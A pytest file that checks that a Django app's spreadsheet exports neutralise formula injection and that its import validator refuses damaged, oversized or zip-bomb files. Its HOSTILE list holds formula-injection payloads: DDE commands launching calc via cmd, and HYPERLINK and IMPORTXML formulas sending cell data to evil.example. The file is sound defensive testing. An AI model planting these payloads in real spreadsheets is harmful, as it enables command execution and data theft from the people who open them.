"""Exported spreadsheets contain no live formulas; imported ones are small, whole and readable."""

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime, time
from decimal import Decimal
from uuid import UUID

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st

from communities.periods import Grain
from communities.spreadsheets import (
    COMMAND,
    CSV,
    UPLOAD,
    XLSX,
    Limits,
    check_upload,
    csv_chunks,
    csv_lines,
    neutralise,
    plain,
    read_rows,
    restore,
    write_xlsx,
)
from tests.workbooks import workbook

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=1+1",
    "''+1+1",
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    "-1;=1+1",
    "words;=1+1",
    'words",=1+1,"',
    "+44=1",
    '=DDE("cmd";"/C calc";"x")',
]
LIVE_START = re.compile(r"[\s\ufeff\0]*[=+\-@\uff0b\uff0d\uff1d\uff20]|[\t\r\n\0]")
HARMLESS = [
    "",
    "words",
    "O'Brien's hall",
    "'quoted'",
    "3",
    "-3",
    "+3",
    "-2.24",
    "1e5",
    "-1E-5",
    "+44 7700 900123",
    "£250",
]


def archive(**sizes: int) -> io.BytesIO:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, size in sizes.items():
            packed.writestr(name.replace("__", "/").replace("_xml", ".xml"), b"0" * size)
    file.seek(0)
    return file


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_hostile_text_in_csv_opens_as_plain_text(payload, separator):
    written = "".join(csv_lines([payload, "name"], [[payload, "Ann"]])).removeprefix("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator) for cell in row]
    assert len(cells) == (4 if separator == "," else 2)
    assert not [cell for cell in cells if LIVE_START.match(cell)]


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_text_in_xlsx_is_never_a_formula(payload):
    file = io.BytesIO()
    write_xlsx(file, [payload, "name"], [[payload, "Ann"]])
    sheet = openpyxl.load_workbook(file).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells] == ["s"] * 4
    assert not [cell.value for cell in cells if LIVE_START.match(cell.value)]
    with zipfile.ZipFile(file) as packed:
        assert b"<f>" not in packed.read("xl/worksheets/sheet1.xml")


def test_xlsx_error_values_stay_text_and_edits_keep_the_quote():
    file = io.BytesIO()
    write_xlsx(file, ["a", "b"], [["#N/A", "=1"]])
    row = next(openpyxl.load_workbook(file).active.iter_rows(min_row=2))
    assert [(cell.data_type, cell.value, bool(cell.quotePrefix)) for cell in row] == [
        ("s", "#N/A", False),
        ("s", "'=1", True),
    ]


@pytest.mark.parametrize("value", HARMLESS + [3, -3, -2.5, Decimal("-250.00"), None, date(2026, 5, 20), True])
def test_neutralise_leaves_numbers_and_harmless_texts_alone(value):
    assert neutralise(value) is value
    assert restore(value) is value


@pytest.mark.parametrize("payload", HOSTILE)
def test_restore_undoes_neutralise(payload):
    assert restore(neutralise(payload)) == payload


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n\0 a1;,\"\uff1d\ufeff"), max_size=6))
def test_any_text_survives_and_is_never_a_formula(text):
    safe = neutralise(text)
    assert restore(safe) == text
    assert not LIVE_START.match(safe) or re.fullmatch(r"[+-]?\d[\d ]*(\.\d+)?([eE][+-]?\d+)?", safe) or safe.isspace()


@pytest.mark.parametrize("payload", [text for text in HOSTILE if "\0" not in text])
def test_csv_export_read_back_is_the_same(payload):
    written = "".join(csv_lines([f"{payload.strip()}x", "b"], [[payload, "y"]])).encode()
    sheet = read_rows(io.BytesIO(written))
    assert sheet.headers == [f"{payload.strip()}x", "b"]
    assert [row[sheet.headers[0]] for _number, row in sheet.rows] == [payload]


@pytest.mark.parametrize("payload", [text for text in HOSTILE if "\0" not in text and "\r" not in text])
def test_xlsx_export_read_back_is_the_same(payload):
    file = io.BytesIO()
    write_xlsx(file, ["a", "b"], [[payload, 1.0]], title="A very/long [title] that no sheet can carry")
    assert list(read_rows(file).rows) == [(2, {"a": payload, "b": "1"})]


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (3, 3),
        (Decimal("2.50"), Decimal("2.50")),
        (date(2026, 5, 20), "2026-05-20"),
        (time(9, 30), "09:30:00"),
        (datetime(2026, 5, 20, 9, 30, tzinfo=UTC), "2026-05-20T10:30:00+01:00"),
        (datetime(2026, 5, 20, 9, 30), "2026-05-20T09:30:00"),  # noqa: DTZ001
    ],
)
def test_plain_writes_values_as_people_and_programs_read_them(value, text):
    assert plain(value) == text


class _Shouted(str):
    """A kind of text that is not `str` itself."""


def _plainly(value: object) -> object:
    """Return what a cell of a CSV file holds, worked out by asking of what kind it is, one kind after another."""
    if value is None:
        text = ""
    elif isinstance(value, bool):
        text = "yes" if value else "no"
    elif isinstance(value, int | float | Decimal):
        return value
    elif isinstance(value, datetime):
        text = (timezone.localtime(value) if timezone.is_aware(value) else value).isoformat(timespec="seconds")
    else:
        text = value.isoformat() if isinstance(value, date | time) else str(value)
    return neutralise(text)


def test_csv_files_are_the_same_as_by_asking_of_what_kind_each_value_is():
    summer = datetime(2026, 7, 1, 23, 30, 5, 99, UTC)
    kinds = [
        None, True, False, 0, -3, 2.5, Decimal("-1.20"), date(2026, 5, 2), time(9, 5), summer, summer.replace(tzinfo=None),
        UUID(int=7), "", "Mill Row", "=1+1", "-2.24", "'=x", 'a "b", c', "two\nlines", "é", _Shouted("=SHOUT"), _Shouted("x"),
        Grain.QUARTER, gettext_lazy("Save"),
    ]  # fmt: skip
    rows = [[each, kinds[-1 - n]] for n, each in enumerate(kinds)] * 20
    whole = io.StringIO(newline="")
    csv.writer(whole, quoting=csv.QUOTE_NONNUMERIC).writerows([["a", "'=b"], *([*map(_plainly, row)] for row in rows)])
    expected = "\ufeff" + whole.getvalue()
    chunks = list(csv_chunks(["a", "=b"], rows))
    assert "".join(csv_lines(["a", "=b"], rows)) == "".join(chunks) == expected
    assert 1 < len(chunks) < len(rows) / 100


def test_xlsx_stores_numbers_and_dates_as_such():
    file = io.BytesIO()
    row = [3, Decimal("-2.50"), date(2026, 5, 20), datetime(2026, 5, 20, 9, tzinfo=UTC), None, True, "words"]
    write_xlsx(file, list("abcdefg"), [row])
    cells = next(openpyxl.load_workbook(file).active.iter_rows(min_row=2))
    assert [cell.data_type for cell in cells] == ["n", "n", "d", "s", "n", "s", "s"]
    assert [cell.value for cell in cells] == [
        3,
        -2.5,
        datetime(2026, 5, 20),  # noqa: DTZ001
        "2026-05-20T10:00:00+01:00",
        None,
        "yes",
        "words",
    ]


def test_xlsx_read_as_text_whatever_the_cell_type():
    file = workbook(
        ("whole", "part", "day", "moment", "none", "yes"),
        (3.0, 2.5, date(2026, 5, 20), datetime(2026, 5, 20, 9, 5), None, True),  # noqa: DTZ001
    )
    assert [row for _number, row in read_rows(file).rows] == [
        {"whole": "3", "part": "2.5", "day": "2026-05-20", "moment": "2026-05-20T09:05:00", "none": "", "yes": "yes"}
    ]


@pytest.mark.parametrize("text", ["a,b\n1,2\n", "a;b\r\n1;2\r\n", "a\tb\n1\t2", "\ufeffa,b\n\n1,2\n\n,\n"])
def test_csv_read_with_any_usual_separator_line_end_and_mark(text):
    sheet = read_rows(io.BytesIO(text.encode()))
    assert (sheet.kind, sheet.headers) == (CSV, ["a", "b"])
    assert [row for _number, row in sheet.rows] == [{"a": "1", "b": "2"}]


def test_row_numbers_match_the_spreadsheet_and_short_rows_are_filled():
    file = workbook(("a", "b"), ("1", "2"), (None, None), ("3", None))
    assert list(read_rows(file).rows) == [(2, {"a": "1", "b": "2"}), (4, {"a": "3", "b": ""})]
    assert list(read_rows(io.BytesIO(b"a,b\n1,2\n\n3\n")).rows) == [
        (2, {"a": "1", "b": "2"}),
        (4, {"a": "3", "b": ""}),
    ]


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty"),
        (b"  \n ", "empty"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest", "old_excel"),
        (b"PK\x03\x04 but no more", "damaged"),
        ("a,b\n1,2".encode("utf-16"), "encoding"),
        ("a,b\n1,2".encode("utf-16-le"), "encoding"),
        (b"name\nCaf\x81", "encoding"),
        ("name\nCafé, crème\n".encode() + b"\xe9", "encoding"),
        (b"\0\1\2\3" * 60, "not_a_sheet"),
        (b"name\n" + b"x" * 300 + b"\0", "encoding"),
        (b'a,b\n"1,2\n3,4', "bad_csv"),
        (b'a,b\n"1"x,2', "bad_csv"),
        (b"a,a\n1,2", "same_heading"),
        (b"a,,b\n1,2,3", "no_heading"),
        (b"a,b\n1,2,3", "ragged"),
        (b",,,,,,,,,\n,,", "no_headings"),
        (",".join(f"c{n}" for n in range(201)).encode(), "too_wide"),
        (b"a\n" + b"1\n" * 5001, "too_long"),
        (b"a\n" + b"1" * (5 * 1024 * 1024), "too_big"),
        (b"a\n" + b"1" * 140_000, "too_much_text"),
        (b"a\n" + b"\n" * 6000 + b"1", "far_below"),
        (b'<?xml version="1.0"?>\n<kml xmlns="x"><Document/></kml>', "kml"),
        (b"<!DOCTYPE html><html><table><tr><td>Name</td></tr></table>", "web_page"),
        (b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>', "xml"),
        (b'{"type": "FeatureCollection", "features": []}', "json"),
        (b"%PDF-1.7\nName", "not_a_sheet"),
    ],
)
def test_a_file_that_cannot_be_read_says_why(data, code):
    with pytest.raises(ValidationError) as caught:
        list(read_rows(io.BytesIO(data)).rows)
    assert caught.value.code == code
    assert "%(" not in caught.value.messages[0]


def test_a_library_that_raises_the_limit_of_csv_changes_nothing_here():
    before = csv.field_size_limit(10 * 1024 * 1024)
    try:
        with pytest.raises(ValidationError) as caught:
            list(read_rows(io.BytesIO(b"a\n" + b"1" * 140_000)).rows)
    finally:
        csv.field_size_limit(before)
    assert caught.value.code == "too_much_text"


def test_wrong_encoding_names_the_line():
    with pytest.raises(ValidationError) as caught:
        read_rows(io.BytesIO(b"name\nHall\nCaf\x81\n"))
    assert "Line 3" in caught.value.messages[0]


def test_windows_1252_is_read_and_reported():
    sheet = read_rows(io.BytesIO("name,words\nHall,plain\nMair’s café – Thursdays,£2\n".encode("cp1252")))
    assert [row for _number, row in sheet.rows] == [
        {"name": "Hall", "words": "plain"},
        {"name": "Mair’s café – Thursdays", "words": "£2"},
    ]
    assert sheet.notes == (
        "This file is not UTF-8. It was read as Windows-1252, as Excel saves a plain CSV: check whether row 3 is "
        "right. If not, save the file as “CSV UTF-8” and try again.",
    )


@pytest.mark.parametrize("first", ["sep=;\r\n", "\ufeffsep=;\r\n", '"sep=;"\n', "SEP=;\r"])
def test_the_separator_line_of_excel_is_understood(first):
    sheet = read_rows(io.BytesIO(f"{first}a;b\r\n1,5;2\r\n".encode()))
    assert (sheet.headers, list(sheet.rows), sheet.notes) == (["a", "b"], [(2, {"a": "1,5", "b": "2"})], ())


def test_the_separator_line_overrides_the_headings():
    assert read_rows(io.BytesIO(b"sep=|\na,b|c\n1|2\n")).headers == ["a,b", "c"]


def knows(headings):
    """Return how many of the columns Name, Kind and Phone there are; 0 without a name."""
    return len({"Name", "Kind", "Phone"}.intersection(headings)) if "Name" in headings else 0


@pytest.mark.parametrize(
    ("rows", "headings_on", "above"),
    [
        ([("Name", "Kind"), ("Hall", "place")], 1, None),
        ([("Our list",), (), ("Name", "Kind"), ("Hall", "place")], 3, "“Our list”"),
        ([("Our list",), ("Name", None, "How", None), ("Name", "Kind", "Phone"), ("Hall", "place")], 3, "“Our list”; “Name”"),
        ([("Name",), ("Hall",)], 1, None),
        ([("Name", "Sort"), ("Name", "Kind")], 1, None),
        ([("What", "Sort"), ("Name", "Kind")], 1, None),
        ([("x",)] * 20 + [("Name", "Kind")], 1, None),
    ],
)  # fmt: skip
def test_known_headings_are_found_only_under_a_title(rows, headings_on, above):
    text = "\n".join(",".join(cell or "" for cell in row) for row in rows)
    for file in (io.BytesIO(text.encode()), workbook(*rows)):
        sheet = read_rows(file, UPLOAD, knows)
        assert sheet.headers == [heading for heading in rows[headings_on - 1] if heading]
        words = f"The headings are on row {headings_on}. The text above them was not read: {above}."
        assert sheet.notes == (() if above is None else (words,))


def test_a_title_above_unknown_headings_gets_a_message_to_delete_it():
    with pytest.raises(ValidationError) as caught:
        list(read_rows(io.BytesIO(b"Our list,,\n\nNom,Typ,Tel\n"), UPLOAD, knows).rows)
    assert caught.value.messages == [
        "Row 3 has more cells than there are headings. Row 1 was read as the headings: if it is a title, delete "
        "everything above the headings; otherwise give every column a heading."
    ]


def test_another_separator_is_tried_if_a_title_hides_it():
    sheet = read_rows(io.BytesIO(b"Our list, in spring\nName;Kind\nHall;place\n"), UPLOAD, knows)
    assert (sheet.headers, [row for _number, row in sheet.rows]) == (
        ["Name", "Kind"],
        [{"Name": "Hall", "Kind": "place"}],
    )


NOTE = "The sheet “{}” was read. Not read: {}. To read another, save it in a file of its own."


@pytest.mark.parametrize(
    ("first", "further", "headers", "note"),
    [
        ([("Name", "Kind"), ("a", "b")], {"More": [("x", "y")]}, ["Name", "Kind"], NOTE.format("Sheet", "“More”")),
        (
            [("About this list",)],
            {"List": [("Name", "Kind"), ("a", "b")]},
            ["Name", "Kind"],
            NOTE.format("List", "“Sheet”"),
        ),
        ([("About", "this")], {"List": [("Name", "Kind")]}, ["Name", "Kind"], NOTE.format("List", "“Sheet”")),
        (
            [("About",)],
            {"List": [("Nom", "Typ")], "End": [("x",)]},
            ["Nom", "Typ"],
            NOTE.format("List", "“Sheet” and “End”"),
        ),
        ([("About",)], {"End": [("x",)]}, ["About"], NOTE.format("Sheet", "“End”")),
        ([], {"List": [("Nom",)]}, ["Nom"], None),
        ([("Name",)], {"Sheet2": [], "Sheet3": [(None, " ")]}, ["Name"], None),
    ],
)
def test_the_sheet_with_known_headings_is_read_and_the_others_are_listed(first, further, headers, note):
    sheet = read_rows(workbook(*first, **further), UPLOAD, knows)
    assert (sheet.headers, sheet.notes) == (headers, () if note is None else (note,))


def test_an_empty_workbook_has_no_headings():
    with pytest.raises(ValidationError) as caught:
        read_rows(workbook())
    assert caught.value.code == "no_headings"


@pytest.mark.parametrize(
    ("names", "words"),
    [
        (["xl/workbook.bin"], "binary Excel workbook"),
        (["content.xml", "META-INF/manifest.xml"], "OpenDocument"),
        (["Index/Document.iwa"], "Numbers"),
        (["doc.kml"], "This is KML"),
        (["list.xlsx"], "compressed folder"),
        (["readme.txt"], "not a spreadsheet"),
    ],
)
def test_an_archive_of_another_kind_says_what_it_is(names, words):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        for name in names:
            packed.writestr(name, b"0")
    with pytest.raises(ValidationError, match=words):
        check_upload(file)


def test_exactly_the_limit_of_rows_is_read():
    assert len(list(read_rows(io.BytesIO(b"a\n" + b"1\n" * 5000)).rows)) == 5000
    assert len(list(read_rows(io.BytesIO(b"a\n" + b"1\n" * 5001), COMMAND).rows)) == 5001


def test_a_wide_or_long_workbook_is_refused():
    with pytest.raises(ValidationError, match="more than 200 columns"):
        read_rows(workbook(tuple(f"c{n}" for n in range(300))))
    with pytest.raises(ValidationError, match="more than 2 rows"):
        list(read_rows(workbook(("a",), ("1",), ("2",), ("3",)), Limits(rows=2)).rows)


def test_a_decompression_bomb_is_refused_before_unpacking(monkeypatch):
    bomb = archive(xl__workbook_xml=10, xl__worksheets__sheet1_xml=21 * 1024 * 1024)
    assert len(bomb.getvalue()) < 100_000
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *args, **kwargs: pytest.fail("unpacked"))
    with pytest.raises(ValidationError) as caught:
        check_upload(bomb)
    assert caught.value.code == "too_big_unpacked"


def test_an_archive_other_than_a_workbook_is_refused():
    with pytest.raises(ValidationError) as caught:
        check_upload(archive(readme_xml=10))
    assert caught.value.code == "not_a_sheet"


def test_an_unreadable_workbook_is_reported_as_damaged():
    with pytest.raises(ValidationError) as caught:
        read_rows(archive(xl__workbook_xml=10))
    assert caught.value.code == "damaged"


def test_a_wrong_sheet_size_loses_no_row():
    source, file = workbook(("a",), ("1",), ("2",)), io.BytesIO()
    with zipfile.ZipFile(source) as packed, zipfile.ZipFile(file, "w") as repacked:
        for name in packed.namelist():
            repacked.writestr(name, packed.read(name).replace(b'ref="A1:A3"', b'ref="A1"'))
    assert [row["a"] for _number, row in read_rows(file).rows] == ["1", "2"]


def test_check_upload_checks_the_content_and_rewinds():
    book, text = workbook(("a",), ("1",)), io.BytesIO(b"a\n1")
    assert [check_upload(book), check_upload(text)] == [XLSX, CSV]
    assert [book.tell(), text.tell()] == [0, 0]
